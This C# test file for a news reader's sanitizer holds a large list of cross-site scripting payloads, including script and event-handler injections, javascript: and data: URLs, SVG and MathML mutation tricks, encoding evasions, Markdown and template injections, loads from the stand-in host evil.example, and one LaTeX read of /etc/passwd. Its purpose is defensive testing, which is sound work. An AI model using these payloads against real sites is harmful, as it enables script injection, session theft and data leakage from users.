using System.Text.Json.Nodes;
using System.Xml;
using System.Xml.Linq;

namespace NewsEducator.Testing;

/// <summary>What a stranger may write so that a reader's program does something. Whatever runs calls <c>canary</c>, asks
/// <c>evil.example</c> or opens a dialog.</summary>
public static class HostileTexts
{
    /// <summary>Elements, attributes, addresses, and what only another reader of the text takes for them.</summary>
    public static readonly IReadOnlyList<string> Own =
    [
        // Elements that run script or load something.
        "<script>canary(1)</script>",
        "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
        "<script\n>canary(1)</script\n>",
        "</script><script>canary(1)</script>",
        "\"}</script><script>canary(1)</script>",
        "<script type=module>import('//evil.example/m.js')</script>",
        "<iframe src=javascript:canary(1)></iframe>",
        "<iframe srcdoc=\"<script>parent.canary(1)</script>\"></iframe>",
        "<iframe srcdoc=&lt;script&gt;parent.canary(1)&lt;/script&gt;></iframe>",
        "<object data=//evil.example/o.swf></object>",
        "<object data=javascript:canary(1)>",
        "<embed src=//evil.example/e.svg>",
        "<applet code=a codebase=//evil.example></applet>",
        "<frameset onload=canary(1)><frame src=//evil.example/></frameset>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<link rel=import href=//evil.example/a.html>",
        "<style>@import '//evil.example/a.css'; body{background:url(//evil.example/b)}</style>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:canary(1)\">",
        "<base href=//evil.example/>",
        "<video src=//evil.example/v onerror=canary(1)></video>",
        "<audio><source src=//evil.example/v onerror=canary(1)></audio>",
        "<img src=//evil.example/pixel.gif width=1 height=1>",
        "<picture><source srcset=//evil.example/p></picture>",
        "<input type=image src=//evil.example/i formaction=javascript:canary(1)>",
        "<form action=//evil.example/><button>确认</button></form>",
        "<form id=f></form><button form=f formaction=javascript:canary(1)>确认",
        "<portal src=//evil.example/></portal>",
        "<isindex action=//evil.example/ type=submit>",
        "<keygen autofocus onfocus=canary(1)>",
        // Event handlers.
        "<img src=x onerror=canary(1)>",
        "<img src=x:x onerror=\"canary(1)\"//>",
        "<img/src=x/onerror=canary(1)>",
        "<IMG SRC=x\tONERROR\n=canary(1)>",
        "<image src=x onerror=canary(1)>",
        "<body onload=canary(1)>",
        "<details open ontoggle=canary(1)>",
        "<input autofocus onfocus=canary(1)>",
        "<select autofocus onfocus=canary(1)>",
        "<a href=# onmouseover=canary(1)>看这里</a>",
        "<div style=animation-name:x onanimationstart=canary(1)>",
        "<p tabindex=0 autofocus onfocus=canary(1) style=display:block>",
        "<marquee onstart=canary(1)>",
        "<dialog open onclose=canary(1)>",
        "<button popovertarget=x onbeforetoggle=canary(1)>x</button>",
        "<x contenteditable onfocus=canary(1) autofocus id=x>",
        // Out of an attribute, and into one.
        "\" onmouseover=canary(1) autofocus onfocus=canary(1) x=\"",
        "' onmouseover=canary(1) autofocus onfocus=canary(1) x='",
        "\"><script>canary(1)</script>",
        "'><script>canary(1)</script>",
        " onfocus=canary(1) autofocus tabindex=1 ",
        "`><script>canary(1)</script>",
        "&quot;&gt;<script>canary(1)</script>",
        "\"style=\"background:url(//evil.example/s)\"",
        "--><script>canary(1)</script><!--",
        "]]><script>canary(1)</script>",
        "</title><script>canary(1)</script>",
        "</textarea><script>canary(1)</script>",
        "</style><script>canary(1)</script>",
        "</noscript><script>canary(1)</script>",
        // Addresses.
        "javascript:canary(1)",
        "JaVaScRiPt:canary(1)",
        "java\tscript:canary(1)",
        "java\nscript:canary(1)",
        " \u0001javascript:canary(1)",
        "javascript&colon;canary(1)",
        "javascript&#58;canary(1)",
        "&#106;avascript:canary(1)",
        "javascript://news.example/%0Acanary(1)",
        "javascript:/*https://news.example/*/canary(1)",
        "vbscript:canary(1)",
        "data:text/html,<script>canary(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
        "blob:https://evil.example/1",
        "view-source:javascript:canary(1)",
        "//evil.example/\"onfocus=canary(1) autofocus x=\"",
        "https://evil.example/\"><script>canary(1)</script>",
        "https://evil.example/' onfocus='canary(1)' autofocus x='",
        "https://evil.example/ onfocus=canary(1) autofocus",
        "https://evil.example/\u2028<script>canary(1)</script>",
        // SVG, MathML, templates, and what changes its meaning when it is read twice.
        "<svg onload=canary(1)>",
        "<svg><script>canary(1)</script></svg>",
        "<svg><script href=data:,canary(1) />",
        "<svg><a xlink:href=javascript:canary(1)><text y=20>看</text></a></svg>",
        "<svg><animate onbegin=canary(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:canary(1)>",
        "<svg><use href=//evil.example/u.svg#x></svg>",
        "<svg><image href=//evil.example/i></svg>",
        "<svg><foreignObject><body onload=canary(1)></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=canary(1)>\">",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>",
        "<math href=javascript:canary(1)>看</math>",
        "<math><mi xlink:href=\"data:x,<script>canary(1)</script>\">",
        "<math><annotation-xml encoding=text/html><img src=x onerror=canary(1)></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=canary(1)>\">",
        "<template><script>canary(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=canary(1)></template>",
        "<listing>&lt;img src=x onerror=canary(1)&gt;</listing>",
        "<xmp><img src=x onerror=canary(1)></xmp>",
        "<plaintext><script>canary(1)</script>",
        "<textarea><img src=x onerror=canary(1)>",
        "<table><td background=//evil.example/b><script>canary(1)</script>",
        "<p style=\"background:url(//evil.example/s)\">",
        "<p style=\"width:expression(canary(1));-moz-binding:url(//evil.example/x.xml#x)\">",
        "<a style=position:fixed;inset:0 href=//evil.example/>全页</a>",
        "<?xml-stylesheet href=\"javascript:canary(1)\"?>",
        "<![CDATA[<script>canary(1)</script>]]>",
        "<!--[if gte IE 4]><script>canary(1)</script><![endif]-->",
        "<!-- a --!><script>canary(1)</script>",
        "<!--",
        "<script",
        "<img src=\"",
        "&lt;script&gt;canary(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=canary(1)&amp;gt;",
        "&#60;img src=x onerror=canary(1)&#62;",
        "\\u003Cscript\\u003Ecanary(1)\\u003C/script\\u003E",
        "%3Cscript%3Ecanary(1)%3C/script%3E",
        "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
        "＜script＞canary(1)＜/script＞",
        "<scr\u0001ipt>canary(1)</scr\u0001ipt>",
        "<scr\u200bipt>canary(1)</scr\u200bipt>",
        "\u2028<img src=x onerror=canary(1)>\u2029",
        "\u202e<img src=x onerror=canary(1)>",
        "\ufeff<script>canary(1)</script>",
        // Markdown and notes programs.
        "[看这里](javascript:canary(1))",
        "[看这里](JaVa\tScRiPt:canary(1))",
        "[看这里](javascript&colon;canary(1))",
        "[看这里](<javascript:canary(1)>)",
        "[看这里](https://evil.example/\"onfocus=canary(1))",
        "[看这里][1]\n\n[1]: javascript:canary(1)",
        "![图](https://evil.example/p.png)",
        "![图](x\"onerror=\"canary(1))",
        "![[https://evil.example/p.png]]",
        "<javascript:canary(1)>",
        "<https://evil.example/><img src=x onerror=canary(1)>",
        "**<img src=x onerror=canary(1)>**",
        "`<img src=x onerror=canary(1)>`",
        "``` \n<script>canary(1)</script>\n```",
        "`</code><script>canary(1)</script>`",
        "`` ` `` <script>canary(1)</script> ``",
        "\\<script>canary(1)</script>",
        "\\\\<script>canary(1)</script>",
        "\\`<script>canary(1)</script>\\`",
        "\n\n<script>canary(1)</script>\n\n",
        "- [ ] <img src=x onerror=canary(1)>",
        "| a | <img src=x onerror=canary(1)> |",
        "> <img src=x onerror=canary(1)>",
        "--- \n<script>canary(1)</script>\n---",
        "<% tp.web.request('https://evil.example') %>",
        "$= dv.el('script', 'canary(1)')",
        "`$= canary(1)`",
        "{{<script>canary(1)</script>}}",
        "{{constructor.constructor('canary(1)')()}}",
        "${canary(1)}",
        "\\(\\href{javascript:canary(1)}{看}\\)",
        "[sound:https://evil.example/s.mp3]",
        "[latex]\\input{/etc/passwd}[/latex]",
    ];

    /// <summary>What feedparser's tests have for it: texts of feeds with scripts, handlers, frames, odd addresses and styles.</summary>
    /// <returns>Empty where the corpus does not lie beside the checkout.</returns>
    public static IReadOnlyList<string> OfFeeds()
    {
        var folder = Repository.In("../shared/corpus/feeds/feedparser");
        var rows = Path.Combine(folder, "sanitize.jsonl");
        return File.Exists(rows)
            ?
            [
                .. File.ReadLines(rows)
                    .Select(row => JsonNode.Parse(row)!)
                    .Where(row => (string?)row["kind"] != "allowed")
                    .SelectMany(row => TextsOf(Path.Combine(folder, "files", (string)row["file"]!)))
                    .Distinct(),
            ]
            : [];
    }

    /// <summary>What stands in a feed as text; of a feed that is no XML, all of it.</summary>
    private static List<string> TextsOf(string file)
    {
        try
        {
            return
            [
                .. XDocument
                    .Load(file)
                    .Descendants()
                    .Where(each => !each.HasElements || each.Attribute("type")?.Value.Contains("xhtml", StringComparison.Ordinal) == true)
                    .Select(each => each.HasElements ? string.Concat(each.Nodes()) : each.Value)
                    .Where(text => text.AsSpan().ContainsAny('<', ':')),
            ];
        }
        catch (XmlException)
        {
            return [File.ReadAllText(file)];
        }
    }
}
